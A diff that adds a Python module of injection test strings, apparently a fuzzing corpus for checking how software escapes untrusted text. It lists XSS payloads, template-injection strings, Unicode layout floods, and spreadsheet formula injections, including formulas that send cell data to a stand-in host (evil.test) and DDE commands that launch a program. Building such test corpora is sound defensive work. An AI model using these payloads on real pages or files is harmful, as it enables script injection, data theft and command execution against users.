@@ -1,0 +1,258 @@
+"""Texts that become code, links, formulas, commands or templates where they are shown carelessly.
+
+The packs of `packs.json` are used whole; what stands here comes on top of them.
+"""
+
+from __future__ import annotations
+
+import json
+from itertools import product
+from pathlib import Path
+
+PACKS = json.loads((Path(__file__).parent / "packs.json").read_text(encoding="utf-8"))
+
+#: What gets a text out of the place where it was meant to stay.
+BREAKOUTS = (
+    *('"', "'", ">", '">', "'>", "`>", "-->", "--!>", "]]>", "*/"),
+    *("</script>", "</style>", "</title>", "</textarea>", "</template>", "</noscript>"),
+    *("</iframe>", "</select>", "</xmp>", "</bdi></p>", "</text></svg>", "</desc></svg>"),
+    *("</title></svg>", "</table>", "\\</script>", "\x00>", "\u2028", "\u202e"),
+)
+#: What runs once it is out.
+CORES = (
+    "<img src=x onerror=pwn()>",
+    "<svg/onload=pwn()>",
+    "<script>pwn()</script>",
+    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
+)
+#: Texts of which each has a trick of its own.
+SINGLE = (
+    # Namespaces: what is text in HTML and markup in SVG or MathML, and what a cleaner turns round.
+    "<svg><style><img src=x onerror=pwn()></style></svg>",
+    "<svg></p><style><a id='</style><img src=x onerror=pwn()>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
+    "<math><mtext><table><mglyph><style><!--</style><p id='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>",
+    "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
+    "<svg><desc><img src=x onerror=pwn()></desc></svg>",
+    "<svg><title><img src=x onerror=pwn()></title></svg>",
+    "<svg><script>pwn()</script></svg>",
+    "<svg><script href=data:text/javascript,pwn()></script></svg>",
+    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
+    "<svg><set onbegin=pwn() attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:pwn()><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" id=x>'></use>",
+    "<svg><image href=x onerror=pwn()>",
+    "<math href=javascript:pwn()>x</math>",
+    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
+    "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
+    "<![CDATA[<img src=x onerror=pwn()>]]>",
+    "<?xml version='1.0'?><img src=x onerror=pwn()>",
+    "<!--><img src=x onerror=pwn()>-->",
+    "<!---><img src=x onerror=pwn()>-->",
+    "<!doctype html><img src=x onerror=pwn()>",
+    # Elements that load, navigate, submit or change what other addresses mean.
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
+    "<meta http-equiv=refresh content='0;url=data:text/html,<script>pwn()</script>'>",
+    '<meta http-equiv=Content-Security-Policy content="default-src *">',
+    "<base href=http://evil.test/>",
+    "<base target=_blank><a href=#figures>x</a>",
+    "<form action=http://evil.test/><button autofocus>send</button></form>",
+    "<form action=javascript:pwn()><input type=submit autofocus></form>",
+    "<button formaction=javascript:pwn()>x</button>",
+    "<link rel=stylesheet href=http://evil.test/x.css>",
+    "<link rel=prefetch href=http://evil.test/x>",
+    "<link rel=dns-prefetch href=//evil.test>",
+    "<img src=http://evil.test/pixel.gif>",
+    "<img srcset='http://evil.test/a 1x, http://evil.test/b 2x'>",
+    "<picture><source srcset=http://evil.test/x><img></picture>",
+    "<video src=http://evil.test/x onerror=pwn()></video>",
+    "<video><source onerror=pwn() src=x></video>",
+    "<audio src=x onerror=pwn()>",
+    "<object data=data:text/html,<script>pwn()</script>></object>",
+    "<object data=http://evil.test/x></object>",
+    "<embed src=javascript:pwn()>",
+    "<embed src=http://evil.test/x>",
+    "<iframe src=javascript:parent.pwn()></iframe>",
+    "<iframe src=http://evil.test/></iframe>",
+    "<iframe srcdoc='&lt;script&gt;parent.pwn()&lt;/script&gt;'></iframe>",
+    "<iframe onload=pwn()></iframe>",
+    "<template><img src=x onerror=pwn()></template><img src=x onerror=pwn()>",
+    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
+    "<dialog open onfocus=pwn() tabindex=1 autofocus>x</dialog>",
+    "<a href=http://evil.test/ target=_blank>your account</a>",
+    "<a href=javascript:pwn()>click</a>",
+    "<a href='java&Tab;script&colon;pwn()'>click</a>",
+    "<a href='&#14; javascript:pwn()'>click</a>",
+    "<a ping=http://evil.test/ href=#figures>click</a>",
+    "<area href=javascript:pwn()>",
+    "<table background=http://evil.test/x><td>",
+    "<portal src=http://evil.test/></portal>",
+    # Handlers.
+    "<body onload=pwn()>",
+    "<body onpageshow=pwn()>",
+    "<input autofocus onfocus=pwn()>",
+    "<select autofocus onfocus=pwn()><option>x</select>",
+    "<textarea autofocus onfocus=pwn()>x</textarea>",
+    "<p contenteditable autofocus onfocus=pwn()>x",
+    "<p tabindex=1 onfocus=pwn()>x",
+    "<div onmouseover=pwn()>x</div>",
+    "<div onpointerenter=pwn()>x</div>",
+    "<marquee onstart=pwn()>x</marquee>",
+    "<details open ontoggle=pwn()><summary>x</summary></details>",
+    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=pwn()>x",
+    "<p style='transition:1s' ontransitionend=pwn()>x",
+    "<div popover id=pp onbeforetoggle=pwn()>x</div><button popovertarget=pp>x</button>",
+    "<img/src=x/onerror=pwn()>",
+    "<img\x0csrc=x\x0conerror=pwn()>",
+    "<img src=x onerror\n=\npwn()>",
+    "<IMG SRC=x ONERROR=pwn()>",
+    "<img src=x onerror=&#112;wn()>",
+    "<img src=x onerror=window['pwn']()>",
+    "<img src='x' onerror='pwn`1`'>",
+    "<scr<script>ipt>pwn()</scr</script>ipt>",
+    "<script/x>pwn()</script >",
+    "<script>pwn()",
+    "<script src=http://evil.test/x.js></script>",
+    "<script src=data:text/javascript,pwn()></script>",
+    "<script type=module>pwn()</script>",
+    "<<script>pwn()//<</script>",
+    "\x00<script>pwn()</script>\x00",
+    "<\x00script>pwn()</script>",
+    # What another place would decode before the browser does.
+    "&lt;script&gt;pwn()&lt;/script&gt;",
+    "&#60;script&#62;pwn()&#60;/script&#62;",
+    "&#x3c;img src=x onerror=pwn()&#x3e;",
+    "&#0000060img src=x onerror=pwn()>",
+    "&amp;lt;img src=x onerror=pwn()&amp;gt;",
+    "&lt;img src=x onerror=pwn()&gt",
+    "\\u003cimg src=x onerror=pwn()\\u003e",
+    "\\x3cimg src=x onerror=pwn()\\x3e",
+    "\uff1cimg src=x onerror=pwn()\uff1e",
+    "\u2039script\u203apwn()\u2039/script\u203a",
+    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
+    "\udcc0\udcbcscript\udcc0\udcbepwn()",
+    "%253Cimg%2520src%253Dx%2520onerror%253Dpwn()%253E",
+    "\ud83c<img src=x onerror=pwn()>",
+    "<img src=x onerror=pwn()>\udfff",
+    "<!--\ud800--><script>pwn()</script>",
+    "\ufeff<script>pwn()</script>",
+    "\u2066<script>pwn()</script>\u2069",
+    "\u2028<script>pwn()</script>\u2029",
+    "\u200b<script>pwn()</script>",
+    # Scripts, styles and data blocks.
+    '"};pwn();//',
+    "'-pwn()-'",
+    "${pwn()}",
+    "`;pwn();`",
+    "\\';pwn();//",
+    '\\";pwn();//',
+    '{"a":"</script><script>pwn()</script>"}',
+    '{"__proto__":{"x":"<img src=x onerror=pwn()>"}}',
+    "<!--<script>pwn()</script>",
+    "</script/><img src=x onerror=pwn()>",
+    "\u2028pwn()\u2029",
+    "*{background:url(http://evil.test/x)}",
+    "</style><style>*{background:url(http://evil.test/x)}</style>",
+    "@import 'http://evil.test/x.css';",
+    "<style>@import'http://evil.test/x.css';</style>",
+    "<p style=background:url(http://evil.test/x)>x",
+    "<p style='width:expression(pwn())'>x",
+    "<p style='-moz-binding:url(http://evil.test/x)'>x",
+    "expression(pwn())",
+    "url(javascript:pwn())",
+    # Attributes.
+    '" onmouseover="pwn()" x="',
+    "' onmouseover='pwn()' x='",
+    " onmouseover=pwn() x=",
+    '" style="position:fixed;inset:0;background:url(http://evil.test/x)" x="',
+    '"onfocus="pwn()"autofocus tabindex=1 x="',
+    'x" href="javascript:pwn()" x="',
+    # Links and Markdown.
+    "[x](javascript:pwn())",
+    "[x]: javascript:pwn()",
+    "![x](http://evil.test/x)",
+    '![x](x"onerror="pwn())',
+    "<javascript:pwn()>",
+    "<http://evil.test/>",
+    "http://evil.test/ www.evil.test mailto:a@evil.test",
+    "vbscript:pwn()",
+    "JaVaScRiPt\n:pwn()",
+    "javascript://%0apwn()",
+    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
+    "blob:http://evil.test/x",
+    "```\n<script>pwn()</script>\n```",
+    "\n\n<script>pwn()</script>\n\n",
+    "|x|<img src=x onerror=pwn()>|",
+    # Templates.
+    "{{ ''.__class__ }}<img src=x onerror=pwn()>",
+    "{% raw %}<img src=x onerror=pwn()>{% endraw %}",
+    "{# #}<img src=x onerror=pwn()>",
+    "#{pwn()}",
+    "{{constructor.constructor('pwn()')()}}",
+    "<%= pwn() %>",
+    "<?php pwn() ?>",
+)
+#: Every text for the browser, each once, in a fixed order.
+XSS: tuple[str, ...] = tuple(
+    dict.fromkeys(
+        (
+            *PACKS["xss"],
+            *PACKS["ssti"],
+            *SINGLE,
+            *(breakout + core for breakout, core in product(BREAKOUTS, CORES)),
+        )
+    )
+)
+#: Texts that break a page's layout rather than its code.
+FLOODS = {
+    "no-space": "W" * 100_000,
+    "override": "\u202e" * 50 + "\u05d0\u05d1" * 400 + " abc",
+    "isolate": "\u2066\u2067\u2068" * 40 + "left \u0627\u0644 right",
+    "stack": ("Z" + "\u0301\u0316\u0489\u033f\u0347" * 40) * 30,
+    "thai": "\u0e01\u0e33\u0e49" * 1500,
+    "emoji": "\U0001f468\u200d" * 900,
+    "tall": "\ufdfa\U0001242b\u2e3b" * 200,
+    "lines": "\n\v\f\r\u2028\u2029\x85" * 400 + "x",
+    "tabs": "\t\u3000\u00a0" * 800 + "x",
+    "invisible": "\u200b\u2060\ufeff\u00ad" * 800 + "x",
+    "tags": "\U000e0041" * 800 + "x",
+    "hangul": "\u1100\u1161" * 400 + "\u3164" * 400,
+    "soft": "a\u00ad" * 3000,
+}
+#: Texts that a spreadsheet runs, or runs when it reads them with another separator.
+FORMULAS: tuple[str, ...] = tuple(
+    dict.fromkeys(
+        (
+            *PACKS["csv"],
+            *("=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=1+1", "''=1+1"),
+            *("=2+5", "=SUM(A1:A9)", "+2+5", "-2+3", "@SUM(1,1)", "=A1&B1", "{=1+1}", "=1\n=2"),
+            '=IMPORTXML("http://evil.test/?"&A1;"//a")',
+            '=WEBSERVICE("http://evil.test/"&A1)',
+            '=DDE("cmd";"/C calc";"x")',
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0",
+            *(sign + "1+1" for sign in "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"),
+            *(
+                space + "=1+1"
+                for space in " \u00a0\u2003\u3000\ufeff\u200b\u200e\u2060\x0b\x0c\x85"
+            ),
+            *(f"a{end}{sign}1+1" for end in ',;|\t\r\n"' for sign in "=+-@"),
+            'a","=1+1',
+            'a"\n"=1+1',
+            'a";"=1+1',
+            '"=1+1"',
+            "a;'=1+1",
+            "a\r\n=1+1,=1+1",
+            "=1+1\x00",
+            "\x00=1+1",
+            "=\u202e1+1",
+            "\ud800=1+1",
+            "1;=1+1;2",
+            "  \t =1+1",
+            "\u2028=1+1",
+        )
+    )
+)
